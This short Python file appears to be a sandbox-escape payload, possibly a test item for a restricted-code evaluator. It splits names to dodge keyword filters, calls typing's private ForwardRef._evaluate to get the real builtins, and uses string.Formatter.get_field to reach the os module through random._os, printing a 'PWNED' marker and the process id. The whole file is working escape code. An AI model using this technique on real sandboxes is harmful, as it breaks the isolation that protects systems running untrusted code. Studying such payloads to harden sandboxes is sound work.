# eval: string.Formatter reached by a computed name
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]

import string, random
F = ga(string, "Form" + "atter")
o = F().get_field("0._o" + "s", (random,), {})[0]
print(M, o.getpid())
